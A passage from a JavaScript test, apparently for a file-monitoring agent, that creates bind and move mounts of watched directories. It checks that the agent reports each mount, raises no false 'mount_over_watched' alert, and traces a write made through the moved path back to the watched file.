    const pidMove = pidOf(run('sh', ['-c', 'echo $$; exec mount --move "$1" "$2"', 'sh', asBind, asMoved]));
    mounted[0] = asMoved;
    const pidApi = pidOf(run(helperBin('mount_api'), [src, asApi]));
    mounted.push(asApi);
    const pidAnc = pidOf(run('sh', ['-c', 'echo $$; exec mount --bind "$1" "$2"', 'sh', tree.srv, asAnc]));
    mounted.push(asAnc);
    await expectLines(since, [
      { type: 'mount', path: asBind, pid, mount: 'bind', source: src, source_watched: true },
      { type: 'mount', path: asMoved, pid: pidMove, mount: 'move', source: asBind, source_watched: true },
      { type: 'mount', path: asApi, pid: pidApi, source_watched: true },
      { type: 'mount', path: asAnc, pid: pidAnc, mount: 'bind', source: tree.srv, source_watched: true },
    ], 'binds and a move of watched trees');
    // nothing watched is hidden: no mount_over_watched alert, no re-check of the baseline
    const wrong = fileEvents(since).filter((e) => e.type === 'alert' && e.rule === 'mount_over_watched');
    assert.equal(wrong, [], 'no hiding alert for an unwatched mount point');
    // the new name is watched: a write through it is reported
    const through = agent.events.length;
    appendFileSync(join(asMoved, 'conf'), 'y=2\n');
    await expectLines(through, [{ type: 'write', path: join(asMoved, 'conf'), watched_path: join(src, 'conf'), pid: process.pid }], 'write through the bind');
  } finally {
    for (const path of mounted.reverse()) await umount(path);
  }
});

conf.run();
